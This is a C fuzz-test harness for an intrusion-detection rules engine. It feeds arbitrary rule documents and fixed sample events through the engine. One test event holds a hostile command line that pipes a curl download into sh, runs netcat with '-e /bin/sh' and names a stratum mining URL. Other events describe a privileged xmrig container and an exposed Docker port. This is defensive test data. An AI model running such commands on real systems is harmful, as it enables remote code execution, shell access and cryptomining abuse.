/* SPDX-License-Identifier: MIT */
/*
 * Rules documents from arbitrary bytes: compiled after the shipped catalogue (so "@list"
 * references and id overrides are exercised), then, when they compile, run over a handful of
 * events of every kind through the engine.  Whatever the input: no crash, no leak, every
 * error carries a message, and a document that fails leaves the shipped rules in force.
 * The first line, when it starts with '{' and the rest is valid, may also be read as
 * detectionRules overrides (a second pass).
 */
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include "common/array.h"
#include "common/json_read.h"
#include "detect/detect.h"
#include "replay/replay.h"

static const char *const events[] = {
	"{\"Name\":\"ProcessCreate\",\"Payload\":{\"Executable\":\"/tmp/x\",\"ProcessId\":1,"
	"\"ParentProcessId\":1,\"UserId\":\"0\",\"CommandLine\":\"curl -o /tmp/x http://h/x | sh "
	"nc -e /bin/sh -lkp 1 --exec=y stratum+tcp://a\",\"ExtraDetails\":{\"Cwd\":\"/tmp\","
	"\"Stdin\":\"socket\",\"StdioRemote\":\"1.2.3.4:5\",\"ContainerId\":\"ab\","
	"\"ParentExecutable\":\"/bin/sh\"}}}",
	"{\"Name\":\"Login\",\"Payload\":{\"ProcessId\":1,\"UserName\":\"u\",\"Operation\":\"o\","
	"\"Executable\":\"e\",\"RemoteAddress\":\"10.0.0.1\",\"Result\":\"Fail\"}}",
	"{\"Name\":\"Login\",\"Payload\":{\"ProcessId\":1,\"UserName\":\"u\",\"Operation\":\"o\","
	"\"Executable\":\"e\",\"RemoteAddress\":\"10.0.0.1\",\"Result\":\"Success\"}}",
	"{\"Name\":\"LocalUserChange\",\"Payload\":{\"Change\":\"UserAdded\",\"UserName\":\"x\","
	"\"UserId\":\"0\",\"GroupNames\":\"x;sudo;docker\"}}",
	"{\"Name\":\"ListeningPorts\",\"Payload\":[{\"LocalPort\":\"22\",\"Protocol\":\"tcp\"}]}",
	"{\"Name\":\"ListeningPorts\",\"Payload\":[{\"LocalPort\":\"2375\",\"Protocol\":\"tcp\"}]}",
	"{\"Name\":\"ContainerEvent\",\"Payload\":{\"Action\":\"start\",\"ObjectType\":"
	"\"container\","
	"\"ContainerId\":\"c\",\"Image\":\"xmrig\",\"SecuritySettings\":{\"Privileged\":true}}}",
	"{\"Name\":\"ConnectionCreate\",\"Payload\":{\"RemoteAddress\":\"1.2.3.4\",\"RemotePort\":"
	"\"3333\",\"Direction\":\"Out\",\"Protocol\":\"tcp\",\"ProcessId\":2,\"Executable\":\"x\"}"
	"}",
};

static void discard(struct event_sink *sink, struct event *e)
{
	(void)sink;
	event_free(e);
}

static void run(struct detect_ruleset *rs)
{
	struct event_sink sink = { .submit = discard };
	struct detect_settings s = { .trust_event_time = true, .max_state_entries = 64 };
	struct detect_engine *de;
	struct event_builder b;

	if (detect_engine_new(&s, &sink, &de) < 0) {
		detect_ruleset_free(rs);
		return;
	}
	detect_engine_set_rules(de, rs);
	event_builder_init(&b);
	for (int round = 0; round < 3; round++)
		for (size_t i = 0; i < ARRAY_SIZE(events); i++) {
			struct replay_line in = { 0 };
			struct replay_error err;
			uint64_t t = (uint64_t)(round * 10 + (int)i + 1) * 1000000000ull;

			if (replay_parse_line(events[i], strlen(events[i]), t, &b, &in, &err) != 1)
				abort(); /* the fixed events are valid */
			detect_engine_observe(de, in.events[0], t);
			replay_line_done(&in);
		}
	detect_engine_flush(de, 1000000000000ull);
	event_builder_done(&b);
	detect_engine_free(de);
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static bool ready;
	struct detect_source srcs[40];
	unsigned n = detect_builtin_count();
	struct detect_report rep = { 0 };
	struct detect_ruleset *rs = NULL;

	if (!ready) {
		json_read_init();
		ready = true;
	}
	if (size > 1 << 18 || n >= 39)
		return 0;
	for (unsigned i = 0; i < n; i++)
		srcs[i] = *detect_builtin(i);
	srcs[n] = (struct detect_source){ .name = "fuzz.json",
					  .data = (const char *)data,
					  .len = size };
	if (detect_ruleset_load(srcs, n + 1, NULL, &rs, &rep) < 0)
		return 0;
	for (unsigned i = 0; i < rep.n_errors; i++)
		if (!rep.errors[i].message[0])
			abort();
	if (rep.files_skipped && detect_ruleset_count(rs) == 0)
		abort(); /* a bad user file must not take the shipped rules with it */
	run(rs);
	return 0;
}
